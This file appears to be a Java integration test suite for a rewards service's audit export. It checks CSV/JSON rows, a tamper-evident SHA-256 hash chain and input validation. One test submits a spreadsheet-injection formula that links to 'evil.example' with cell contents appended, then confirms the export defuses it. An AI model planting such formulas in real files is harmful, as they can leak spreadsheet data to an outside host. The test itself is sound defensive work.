package io.kinlink.rewards.audit;

import static io.kinlink.rewards.RewardsEvents.branchOpened;
import static io.kinlink.rewards.RewardsEvents.publish;
import static io.kinlink.rewards.RewardsEvents.publishBranch;
import static io.kinlink.rewards.RewardsEvents.purchaseAt;
import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasSize;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;

import io.kinlink.rewards.RewardsEvents;
import io.restassured.http.ContentType;

import io.kinlink.testsupport.KinlinkInfraResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * The compliance audit export as an auditor checks it: every reward of the month and branch with
 * its order, level, rule and cap; the summary's checks; and a hash chain that recomputes from the
 * CSV to the final hash, and does not once a row is changed or removed.
 */
@QuarkusTest
@WithTestResource(value = KinlinkInfraResource.class, initArgs = @ResourceArg(name = "database", value = "rewards"))
class AuditExportTest {

    private static final String PERIOD = "2019-06";

    @Test
    void a_months_rewards_are_listed_with_their_order_and_cap_and_the_chain_verifies() throws Exception {
        String branch = "audit-" + UUID.randomUUID().toString().substring(0, 8);
        publishBranch(branchOpened(branch));
        UUID purchase = UUID.randomUUID();
        UUID level1 = UUID.randomUUID();
        publish(purchaseAt(branch, UUID.randomUUID(), purchase, 100_000, Instant.parse("2019-06-15T02:00:00Z"),
                level1, UUID.randomUUID(), UUID.randomUUID()));
        // another branch's purchase in the same month stays out of this branch's audit
        publish(purchaseAt("elsewhere-" + branch, UUID.randomUUID(), UUID.randomUUID(), 50_000,
                Instant.parse("2019-06-16T02:00:00Z"), UUID.randomUUID()));

        String url = "/api/rewards/audit?period=" + PERIOD + "&branch=" + branch;
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> given().get(url).then().statusCode(200)
                .body("rows.findAll { it.reason == 'REFERRAL_REBATE' }", hasSize(3)));

        given().get(url).then()
                .body("summary.depthWithinThree", equalTo(true)).body("summary.deepestChainLevel", equalTo(3))
                .body("summary.inKindOnly", equalTo(true)).body("summary.ordersChecked", equalTo(1))
                .body("summary.ordersOverCap", hasSize(0)).body("summary.referralRewardsWithoutPurchase", equalTo(0))
                .body("rows.branch", everyItem(equalTo(branch)))
                .body("rows.purchaseId", everyItem(equalTo(purchase.toString())))
                .body("rows.find { it.chainLevel == 1 }.points", equalTo(5_000))
                .body("rows.find { it.chainLevel == 1 }.memberId", equalTo(level1.toString()))
                .body("rows.find { it.chainLevel == 1 }.ruleId", equalTo("referral-rebate"))
                .body("rows.find { it.chainLevel == 1 }.orderRebatePoints", equalTo(8_000))
                .body("rows.find { it.chainLevel == 1 }.purchaseAmountFen", equalTo(100_000));

        Response csv = given().get(url + "&format=csv");
        csv.then().statusCode(200).contentType("text/csv");
        String finalHash = csv.header("X-Audit-Final-Hash");
        List<String> lines = new ArrayList<>(csv.asString().lines().toList());
        lines.remove(0); // the header
        String first = sha256("kinlink-audit:" + PERIOD + ":" + branch);
        assertEquals(finalHash, chain(first, lines), "the chain recomputes from the CSV");
        assertEquals(finalHash, given().get(url).then().extract().path("summary.finalHash"));

        // ten times the points of the first row (its sixth column; the first columns hold no commas)
        List<String> changed = new ArrayList<>(lines);
        String[] columns = changed.get(0).split(",", 7);
        columns[5] = Long.toString(Long.parseLong(columns[5]) * 10 + 1);
        changed.set(0, String.join(",", columns));
        assertNotEquals(finalHash, chain(first, changed), "a changed row breaks the chain");
        List<String> shortened = new ArrayList<>(lines.subList(0, lines.size() - 1));
        assertNotEquals(finalHash, chain(first, shortened), "a removed row breaks the chain");
    }

    @Test
    void a_period_is_required_and_the_format_is_json_or_csv() {
        given().get("/api/rewards/audit").then().statusCode(400);
        given().get("/api/rewards/audit?period=2019-13").then().statusCode(400);
        given().get("/api/rewards/audit?period=" + PERIOD + "&format=xlsx").then().statusCode(400);
        // a mistyped branch would export an empty, valid-looking audit: refused instead
        given().get("/api/rewards/audit?period=" + PERIOD + "&branch=nowhere-" + UUID.randomUUID()).then()
                .statusCode(400).body("errors[0].field", equalTo("branch"));
    }

    @Test
    void an_operators_text_that_a_spreadsheet_would_run_is_shown_not_run_and_the_chain_still_verifies() throws Exception {
        String template = given().contentType(ContentType.JSON).body(Map.of("name", "Audit defusing",
                        "faceValueFen", 1_000, "minSpendFen", 0, "validDays", 30))
                .post("/api/rewards/coupon-templates").then().statusCode(201).extract().path("id");
        UUID member = RewardsEvents.known(UUID.randomUUID());
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") " + member;
        given().contentType(ContentType.JSON)
                .body(Map.of("templateId", template, "requestId", "defuse-" + member, "reason", formula))
                .post("/api/members/" + member + "/rewards/coupons").then().statusCode(201);

        YearMonth month = YearMonth.now(ZoneId.of("Asia/Shanghai"));
        Response csv = given().get("/api/rewards/audit?period=" + month + "&format=csv");
        csv.then().statusCode(200).header("X-Audit-Format", "2");
        List<String> lines = new ArrayList<>(csv.asString().lines().toList());
        String header = lines.remove(0);
        assertEquals("\"seq\",\"rewardId\",\"kind\",\"reason\"", header.substring(0, header.indexOf(",\"memberId\"")));
        String row = lines.stream().filter(line -> line.contains(member.toString())).findFirst().orElseThrow();
        assertTrue(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\") " + member + "\","),
                "the reason is quoted and starts with an apostrophe: " + row);
        String first = sha256("kinlink-audit:" + month + ":*");
        assertEquals(csv.header("X-Audit-Final-Hash"), chain(first, lines), "the chain covers the defused bytes");
    }

    /** What an auditor computes: each line's hash over the previous hash and the line without its last column. */
    private static String chain(String first, List<String> lines) throws Exception {
        String previous = first;
        for (String line : lines) {
            String withoutHash = line.substring(0, line.lastIndexOf(','));
            previous = sha256(previous + "\n" + withoutHash);
        }
        return previous;
    }

    private static String sha256(String text) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8)));
    }
}
